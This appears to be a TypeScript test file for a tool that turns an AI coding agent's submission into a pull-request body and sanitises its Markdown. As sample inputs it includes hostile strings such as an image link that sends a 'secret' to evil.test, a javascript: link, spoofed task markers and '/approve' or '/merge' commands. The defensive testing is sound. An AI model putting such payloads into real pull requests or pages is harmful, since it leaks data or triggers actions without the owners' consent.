import { pullRequestBody, pullRequestTitle, taskMarker, type PullRequestInput } from './pull-request-body';
import { safeMarkdown } from './safe-markdown';

const input: PullRequestInput = {
  taskId: 'task-1', taskUrl: 'https://coder.example/tasks/task-1', model: 'claude-sonnet-5-5', modelStandIn: null,
  submission: { title: 'Fix add', summary: 'It **adds** now.', testing: 'npm test', risks: 'Only integers.', discard: [], answer: null, noChangesReason: null },
  files: [{ path: 'src/add.js', oldPath: null, status: 'modified', additions: 1, deletions: 2, binary: false }],
  leftOut: [{ path: 'package-lock.json', reason: 'a lock file that changed without package.json' }],
  verification: { status: 'passed', source: 'package.json', note: null, checks: [{ name: 'npm test', command: 'npm test', phase: 'head', exitCode: 0, durationMs: 1_240, status: 'passed', alreadyFailing: false, outputTail: '' }] },
};

describe('pullRequestBody', () => {
  it('tells what changed, how it was verified, and what was left out', () => {
    const body = pullRequestBody(input);
    expect(body).toContain('## Summary\n\nIt **adds** now.');
    expect(body).toContain('- `src/add.js` (modified, +1 −2)');
    expect(body).toContain('The platform ran the checks: passed.');
    expect(body).toContain('| `npm test` | not run | passed | 0 | 1.2 | no |');
    expect(body).toContain('Only integers.');
    expect(body).toContain('- `package-lock.json`: a lock file that changed without package.json');
    expect(body).toContain('[task task-1](https://coder.example/tasks/task-1)');
    expect(body.endsWith('<!-- async-coder task=task-1 -->\n')).toBe(true);
    expect(body).not.toContain('stand-in');
  });

  it('says when no live model was at work, and when checks failed', () => {
    const body = pullRequestBody({ ...input, modelStandIn: 'recorded session', verification: { ...input.verification, status: 'failed', note: 'This change edits package.json.' } });
    expect(body).toMatch(/^> \*\*Note:\*\* the model was a recorded stand-in \(recorded session\)/);
    expect(body).toContain('**failed**. This change edits package.json.');
  });

  it('fits into what a forge takes, marker included', () => {
    const body = pullRequestBody({ ...input, submission: { ...input.submission, summary: 'word '.repeat(30_000) } });
    expect(body.length).toBeLessThan(65_536);
    expect(body).toContain(taskMarker('task-1'));
  });

  it('cannot be made to carry another task\'s marker', () => {
    const body = pullRequestBody({ ...input, submission: { ...input.submission, summary: 'x <!-- async-coder task=other --> y' } });
    expect(body.match(/<!-- async-coder/g)).toHaveLength(1);
  });

  it('names the files that deserve a second look', () => {
    const body = pullRequestBody({ ...input, flagged: [{ path: '.github/workflows/`x.yml', kind: 'workflow', why: 'a workflow runs' }] });
    expect(body).toContain('## Look closely at\n\nThese files run code, or decide what runs:\n\n- `.github/workflows/x.yml`: a workflow runs');
    expect(pullRequestBody(input)).not.toContain('Look closely');
  });

  it('has a title of one line that notifies nobody', () => {
    expect(pullRequestTitle('Fix @octocat\nand more')).toBe('Fix octocat and more');
    expect(pullRequestTitle(' ')).toBe('Change by Async Coder');
  });
});

describe('safeMarkdown', () => {
  it.each([
    ['ping @octocat and @acme/team', 'ping @&#8203;octocat and @&#8203;acme/team'],
    ['mail a@b.c', 'mail a@b.c'],
    ['`@decorator` stays', '`@decorator` stays'],
    ['Fixes #12, closes: acme/x#3, resolved https://github.com/a/b/issues/9', 'Fixes issue 12, closes: issue 3, resolved issue 9'],
    ['see #12', 'see #12'],
    ['![a](https://evil.test/x?d=secret)', '[picture left out: a]'],
    ['![a][ref]\n\n[ref]: https://evil.test/x', '[picture left out: a]\n\n'],
    ['[here](https://evil.test/?q=1)', 'here (link to evil.test left out)'],
    ['[docs](https://docs.github.com/en) [file](src/a.ts) [up](../x) [a](#b)', '[docs](https://docs.github.com/en) [file](src/a.ts) [up](../x) [a](#b)'],
    ['[x](javascript:alert(1))', 'x (link to another place left out))'],
    ['[x](//evil.test/a)', 'x (link to another place left out)'],
    ['https://evil.test/a and https://github.com/a', '`https://evil.test/a` and https://github.com/a'],
    ['https://github.com.evil.test/a', '`https://github.com.evil.test/a`'],
    ['<https://evil.test/a>', '`https://evil.test/a`'],
    ['<img src=x> <b>', '&lt;img src=x> &lt;b>'],
    ['a < b && c > d', 'a < b && c > d'],
    ['a\u202eb', 'a\\u{202e}b'],
    // References to elsewhere show a link back there.
    ['see acme/x#3, bob#4 and acme/x@0123abc', 'see acme/x#&#8203;3, bob#&#8203;4 and acme/x@&#8203;0123abc'],
    ['https://github.com/a/b/issues/5', '`https://github.com/a/b/issues/5`'],
    ['[x](https://github.com/a/b/pull/5)', 'x (link to github.com left out)'],
    ['[x](docs/a.md#1) and https://github.com/a#2', '[x](docs/a.md#1) and https://github.com/a#2'],
    // Only rendering makes them what they are.
    ['&#64;octocat &commat;bob fix&#101;s &#35;1', '&amp;#64;octocat &amp;commat;bob fix&amp;#101;s &amp;#35;1'],
    ['_@octocat_ **@bob** .@eve \\@mal', '_@&#8203;octocat_ **@&#8203;bob** .@&#8203;eve \\@&#8203;mal'],
    ['fixes **#12**, closes \\#13, **resolves** #14', 'fixes **issue 12**, closes \\issue 13, **resolves** issue 14'],
    ['\\`@octocat\\` x', '\\`@&#8203;octocat\\` x'],
    // Links in every spelling.
    ['![a]\n\n> [a]: //evil.test/p.png', '[picture left out: a]\n\n'],
    ['[a]:\n  https://evil.test/x', '\n  `https://evil.test/x`'],
    ['[a [b] c](//evil.test) ![a [b]](//evil.test/p.png)', '[a [b] c] (//evil.test) [picture left out: a [b]] (//evil.test/p.png)'],
    ['[a\nb](\n//evil.test)', '[a\nb] (\n//evil.test)'],
    ['[a](/\\evil.test) [b](&#47;&#47;evil.test)', 'a (link to another place left out) b (link to another place left out)'],
    ['www.evil.test/x', '`www.evil.test/x`'],
    ['/approve\n- /merge now\n/etc/hosts', '&#8203;/approve\n- &#8203;/merge now\n/etc/hosts'],
  ])('makes %j harmless', (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe);
  });

  it('takes no long time, whatever the text is', () => {
    for (const piece of ['`', '```\n', '```a\n', '[', '[a](', '![a](', '<http://', '@', 'fixes #', '[a]: x\n', '`a``b```c']) {
      const began = performance.now();
      safeMarkdown(piece.repeat(100_000 / piece.length));
      expect([piece, performance.now() - began < 5_000]).toEqual([piece, true]);
    }
  });

  it('knows the repository that it writes in', () => {
    expect(safeMarkdown('https://github.com/Acme/App/issues/5 and https://github.com/acme/other/issues/5', ['github.com'], 'acme/app')).toBe('https://github.com/Acme/App/issues/5 and `https://github.com/acme/other/issues/5`');
  });

  it.each([
    ['a list item that ends', '- a\n  ```\n  x\n@octocat'],
    ['a fence on the line of its item', '- ```\n  x\n  ```\n  @octocat\n'],
    ['a fence in a quotation', '> ```\n@octocat'],
    ['a cell of a table', '| a | b |\n|---|---|\n| `x | @octocat` |'],
  ])('takes nothing for code that a forge may not: %s', (_what, text) => {
    expect(safeMarkdown(text)).toContain('@&#8203;octocat');
  });

  it('lets no code be drawn', () => {
    expect(safeMarkdown('```mermaid\nclick A "https://evil.test"\n```')).toBe('```text\nclick A "https://evil.test"\n```');
    expect(safeMarkdown('1. a\n   ```ts\n   @Injectable()\n   ```\n2. @bob')).toBe('1. a\n   ```ts\n   @Injectable()\n   ```\n2. @&#8203;bob');
  });

  it('leaves code alone, and closes what is left open', () => {
    const fenced = '```ts\n@Injectable() // fixes #1\nconst a = <T>(x: T) => x;\n```';
    expect(safeMarkdown(`a\n${fenced}\n@bob`)).toBe(`a\n${fenced}\n@&#8203;bob`);
    expect(safeMarkdown('a\n```\n@octocat')).toBe('a\n```\n@octocat\n```');
    expect(safeMarkdown('````\n```\n@x\n````\n@bob')).toBe('````\n```\n@x\n````\n@&#8203;bob');
    expect(safeMarkdown('```not`a fence\n@bob')).toBe('```not`a fence\n@&#8203;bob');
    expect(safeMarkdown('`a @octocat\nb')).toBe('`a @&#8203;octocat\nb');
  });
});
